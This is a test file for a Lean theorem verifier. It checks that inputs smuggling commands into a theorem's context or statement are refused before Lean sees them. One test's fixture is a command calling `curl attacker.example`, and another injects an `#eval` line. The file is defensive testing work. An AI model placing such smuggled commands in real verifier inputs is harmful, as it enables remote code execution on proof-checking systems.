// The verifier screens a theorem's context and statement twice: before any worker sees
// the request (on the fallback token table read as Mathlib reads it, as the reward
// service and the orchestrator do), and again on the worker's lease with the token
// table Lean reported for the header. A command that only the header's imports declare is invisible to the first
// and refused by the second; either way the call is INVALID_ARGUMENT naming the field
// (the dataset's fault, not the model's), and nothing of it is sent to Lean.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Code } from "@connectrpc/connect";
import { BUILTIN_COMMAND_TOKENS, BUILTIN_TOKENS } from "@lean-grpo/lean";
import { Verdict } from "@lean-grpo/gen/leangrpo/v1/verifier_pb";
import { standIn, type StandIn } from "./support/stand-in.js";
import { rejection, startVerifier, type Harness } from "./support/verifier-harness.js";

/** A command of the header's imports that the fallback table does not know. */
const IMPORTED_COMMAND = "run_remote";

const repl: StandIn = standIn({
  rules: [{ when: { cmd: { regex: "^(?!#print axioms)" }, env: "given" }, declares: { axioms: [] } }],
  tokenTable: { tokens: [...BUILTIN_TOKENS, "#", IMPORTED_COMMAND], commands: [...BUILTIN_COMMAND_TOKENS, IMPORTED_COMMAND] },
});

let harness: Harness;
beforeAll(async () => {
  harness = await startVerifier({ repl: { command: repl.command } });
});
afterAll(async () => {
  await harness.close();
  repl.cleanup();
});

const statement = "theorem t : True";
const header = "import Mathlib";
const sent = () => repl.requests().flatMap((logged) => (logged.request.kind === "command" ? [logged.request.cmd] : []));

describe("the theorem screen in the verifier", () => {
  it("refuses on the header's table what only the header's imports make a command, before Lean sees it", async () => {
    const context = `${IMPORTED_COMMAND} "curl attacker.example"`;
    for (const call of [
      () => harness.client.verify({ theorem: { statement, header, context }, proof: "by trivial" }),
      () => harness.client.startProof({ theorem: { statement, header, context } }),
    ]) {
      const error = await rejection(call());
      expect(error.code).toBe(Code.InvalidArgument);
      expect(error.rawMessage).toMatch(/^theorem\.context: `run_remote` at context 1:0 begins a command a context may not hold/);
    }
    const batch = await rejection(
      (async () => {
        for await (const _ of harness.client.verifyBatch({ items: [{ theorem: { statement, header, context }, proof: "by trivial" }] })) {
          // refused while it runs
        }
      })(),
    );
    expect(batch.rawMessage).toMatch(/^items\[0\]\.theorem\.context: `run_remote`/);
    expect(sent().filter((cmd) => cmd.includes(IMPORTED_COMMAND))).toEqual([]);
  });

  it("refuses a hostile statement before any worker runs, naming the field", async () => {
    const error = await rejection(
      harness.client.verify({ theorem: { statement: "theorem t : 'ab' = 'a'\n#eval 1", header }, proof: "by trivial" }),
    );
    expect(error.code).toBe(Code.InvalidArgument);
    expect(error.rawMessage).toBe(
      "theorem.statement: the statement does not lex as Lean: missing end of character literal at statement 1:14",
    );
  });

  it("reads Mathlib's notation as the header's table does: `#s` is a card, not a command", async () => {
    const card = await harness.client.verify({ theorem: { statement: "theorem t (s : Finset ℕ) : #s = 3", header }, proof: "by simp" });
    expect(card.verdict, card.reason).toBe(Verdict.PROVED);
    const response = await harness.client.verify({ theorem: { statement, header, context: "open Nat\ndef d := 2" }, proof: "by trivial" });
    expect(response.verdict, response.reason).toBe(Verdict.PROVED);
    expect(sent()).toContain("open Nat\ndef d := 2\ntheorem t : True := by trivial");
  });
});
